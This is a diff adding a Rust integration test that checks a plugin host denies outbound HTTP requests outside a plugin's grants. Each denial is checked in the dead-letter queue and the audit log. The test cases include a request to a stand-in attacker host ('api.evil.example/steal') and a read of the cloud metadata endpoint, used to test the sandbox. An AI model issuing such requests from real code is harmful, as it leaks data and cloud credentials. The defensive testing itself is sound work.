@@ -92,3 +92,122 @@ async fn a_plugin_over_its_memory_cap_traps_and_only_its_event_fails() {
     wait_for_state(&host, "calm-1", "erp", "delivered").await;
     assert!(sink.requests_for("hog-1").is_empty());
 }
+
+/// Each case: a plugin name, its grants, the request it tries, and what the operator reads.
+#[tokio::test(flavor = "multi_thread")]
+async fn outbound_requests_outside_the_grants_are_denied_and_fail_the_event() {
+    let sink = Sink::start().await;
+    let port: u16 = sink
+        .url
+        .rsplit(':')
+        .next()
+        .unwrap()
+        .split('/')
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    let granted = format!("POST http://127.0.0.1:{port}/hooks");
+    let cases = [
+        (
+            "ungranted-host",
+            granted.clone(),
+            "POST http://api.evil.example/steal".to_owned(),
+            "tried POST http://api.evil.example:80/steal, which no grant allows".to_owned(),
+        ),
+        (
+            "other-port",
+            granted.clone(),
+            format!("POST http://127.0.0.1:{}/hooks", port + 1),
+            format!("tried POST http://127.0.0.1:{}/hooks, which no grant allows", port + 1),
+        ),
+        (
+            "other-path",
+            granted.clone(),
+            format!("POST http://127.0.0.1:{port}/admin"),
+            format!("tried POST http://127.0.0.1:{port}/admin, which no grant allows"),
+        ),
+        (
+            "other-method",
+            granted.clone(),
+            format!("DELETE http://127.0.0.1:{port}/hooks"),
+            format!("tried DELETE http://127.0.0.1:{port}/hooks, which no grant allows"),
+        ),
+        (
+            "loopback-ungranted",
+            format!("POST http://10.1.2.3:{port}/hooks"),
+            format!("GET http://127.0.0.1:{port}/hooks"),
+            format!("tried GET http://127.0.0.1:{port}/hooks, which no grant allows"),
+        ),
+        (
+            "metadata",
+            granted.clone(),
+            "GET http://169.254.169.254/latest/meta-data/".to_owned(),
+            "tried GET http://169.254.169.254:80/latest/meta-data/, which no grant allows".to_owned(),
+        ),
+        (
+            "name-to-loopback",
+            format!("POST http://localhost:{port}/hooks"),
+            format!("POST http://localhost:{port}/hooks"),
+            "an internal (loopback, link-local, metadata or private) address; grant that address as an IP literal"
+                .to_owned(),
+        ),
+    ];
+    let mut options = ConfigOptions::new(&sink.url);
+    let mut routes = String::new();
+    for (name, grant, target, _) in &cases {
+        options.extra.push_str(&format!(
+            "\n[[plugins]]\nname = \"{name}\"\nkind = \"transform\"\npath = {path:?}\n[plugins.config]\ntarget = \"{target}\"\n[plugins.grants]\nhttp = [\"{grant}\"]\n",
+            path = kaunter_tests::plugins::HOSTILE_EGRESS
+        ));
+        routes.push_str(&format!(
+            "\n[[routes]]\nname = \"{name}\"\ntypes = [\"pos.sale.*\"]\nstores = [\"{name}\"]\ntransforms = [\"{name}\"]\nsinks = [\"erp\"]\n"
+        ));
+    }
+    routes.push_str("\n[[routes]]\nname = \"sales\"\ntypes = [\"pos.sale.*\"]\nstores = [\"hk-*\"]\ntransforms = [\"sku-map\"]\nsinks = [\"erp\"]\n");
+    options.routes = routes;
+    let host = Host::start(&config(&options));
+    for (name, ..) in &cases {
+        host.post_json(&sale(&format!("x-{name}"), name, "X-1", &[("1", 1, 100)]))
+            .await;
+    }
+    host.post_json(&sale("honest-1", "hk-001", "H-1", &[("1", 1, 100)]))
+        .await;
+    let letters = wait_for("every exfiltration attempt in the DLQ", 30, || async {
+        let (_, dlq) = host.get("/v1/admin/dlq", ADMIN_KEY).await;
+        let letters = dlq["dead_letters"].as_array()?.clone();
+        (letters.len() == cases.len()).then_some(letters)
+    })
+    .await;
+    for (name, _, _, says) in &cases {
+        let letter = letters.iter().find(|l| l["event_id"] == format!("x-{name}")).unwrap();
+        let error = letter["error"].as_str().unwrap();
+        assert!(
+            error.starts_with(&format!("capability denied: plugin `{name}` ")),
+            "{name}: {error}"
+        );
+        assert!(error.contains(says.as_str()), "{name}: {error}\nshould say: {says}");
+        assert_eq!(letter["plugin"], *name);
+    }
+    wait_for_state(&host, "honest-1", "erp", "delivered").await;
+    // Each denial is in the audit log, naming the plugin version and the event.
+    let data = host.dir.path().join("data");
+    let log = host.cli(&["audit", "log", "--json", "--data", data.to_str().unwrap()]);
+    let denials: Vec<serde_json::Value> = log
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .filter(|r| r["action"] == "capability.denied")
+        .collect();
+    assert_eq!(denials.len(), cases.len(), "{log}");
+    assert!(
+        denials
+            .iter()
+            .any(|r| r["subject"] == "x-metadata" && r["actor"].as_str().unwrap().starts_with("plugin:metadata@"))
+    );
+    // Nothing sneaked through to the sink's port: only the honest event arrived.
+    assert!(
+        sink.requests().iter().all(|r| r.json()["id"] == "honest-1"),
+        "{:?}",
+        sink.requests().len()
+    );
+}
